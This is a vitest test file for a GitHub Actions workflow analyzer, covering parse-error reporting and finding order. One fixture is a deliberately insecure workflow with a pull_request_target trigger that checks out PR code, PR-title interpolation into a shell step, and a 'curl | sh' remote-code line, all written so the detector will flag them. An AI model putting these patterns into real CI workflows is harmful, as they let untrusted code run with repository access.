import { describe, expect, it } from 'vitest';
import { analyzeWorkflow } from '../../src/supply-chain/analyze-workflow.js';
import { analyze, readWorkflowFixture, yaml } from './helpers.js';

describe('analyzeWorkflow', () => {
  it('malformed YAML gives one "workflow could not be parsed" finding at the parser\'s line, not a throw', () => {
    const findings = analyze(yaml`
      on: push
      jobs:
        a:
          runs-on: ubuntu-latest
          steps: [
            - run: make
    `);
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ kind: 'workflow-parse-error', severity: 'warning', file: '.github/workflows/ci.yml' });
    expect(findings[0]!.message).toMatch(/^workflow could not be parsed: /);
    expect(findings[0]!.line).toBeGreaterThanOrEqual(5);
  });

  it('a duplicate key is reported on the duplicate, not on the whitespace before it (Scorecard fixture github-pysa-workflow)', () => {
    const findings = analyzeWorkflow('.github/workflows/pysa.yml', readWorkflowFixture('checks/raw/testdata/.github/workflows/github-pysa-workflow.yaml'));
    expect(findings.map((finding) => [finding.kind, finding.line])).toEqual([['workflow-parse-error', 9]]);
    expect(findings[0]!.message).toContain('unique');
  });

  it('a document that is not a mapping is a parse error too', () => {
    expect(analyze('- just\n- a list\n').map((finding) => [finding.kind, finding.line])).toEqual([['workflow-parse-error', 1]]);
  });

  it('tab indentation is a parse error with a line', () => {
    const findings = analyze('on: push\njobs:\n\ta: {}\n');
    expect(findings.map((finding) => finding.kind)).toEqual(['workflow-parse-error']);
    expect(findings[0]!.line).toBe(3);
  });

  it.each(['', '# only a comment\n', '\n\n'])('an empty file (%j) has no findings', (text) => {
    expect(analyze(text)).toEqual([]);
  });

  it('sorts findings by line', () => {
    const findings = analyze(yaml`
      on: pull_request_target
      jobs:
        a:
          runs-on: ubuntu-latest
          steps:
            - uses: actions/checkout@v4
              with:
                ref: \${{ github.event.pull_request.head.sha }}
            - run: echo "\${{ github.event.pull_request.title }}" && curl -s https://x.io | sh
    `);
    expect(findings.map((finding) => [finding.line, finding.kind])).toEqual([
      [0, 'missing-permissions'],
      [6, 'unpinned-action'],
      [8, 'dangerous-trigger'],
      [9, 'curl-pipe-shell'],
      [9, 'script-injection'],
    ]);
  });
});
